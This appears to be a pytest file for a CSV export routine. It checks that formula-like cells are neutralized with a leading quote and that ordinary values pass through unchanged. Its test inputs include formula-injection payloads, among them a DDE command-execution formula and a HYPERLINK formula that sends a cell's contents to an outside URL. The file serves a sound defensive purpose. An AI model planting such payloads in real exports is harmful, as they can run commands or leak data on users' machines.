import csv
import io

import pytest

from support.csv_files import ROWS_AT_ONCE, csv_file


def read(rows) -> list[list[str]]:
    content = b"".join(csv_file(rows)).decode()
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:])))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u00a0=1",
        "＝1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        '=HYPERLINK("http://example.org?"&A1,"x")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_cell_that_a_spreadsheet_would_calculate_becomes_a_text(cell):
    assert read([[cell]])[0][0].startswith("'")


@pytest.mark.parametrize("cell", ["Ana Núñez", "a=b", "1-2", 'say "so", twice', "O'Brien", "línea\nnueva", "", "a; b"])
def test_other_texts_stay_as_they_are(cell):
    assert read([[cell, "end"]]) == [[cell, "end"]]


@pytest.mark.parametrize(
    "cell, safe", [("Ana;=1+1", "Ana;'=1+1"), ("a; @SUM(A1); -b", "a; '@SUM(A1); '-b"), ("=1;=2", "'=1;'=2")]
)
def test_formula_behind_a_semicolon_becomes_a_text_too(cell, safe):
    """Excel with a semicolon as list separator begins a new cell there, whatever the quotation marks say."""
    assert read([["first", cell]]) == [["first", safe]]


def test_numbers_and_nothing_stay_numbers_and_nothing():
    assert read([[-3, 0, 2.5, None]]) == [["-3", "0", "2.5", ""]]


def test_long_table_comes_in_pieces_and_whole():
    rows = [[number] for number in range(2 * ROWS_AT_ONCE + 1)]
    assert len(list(csv_file(rows))) == 3
    assert read(rows) == [[str(number)] for (number,) in rows]
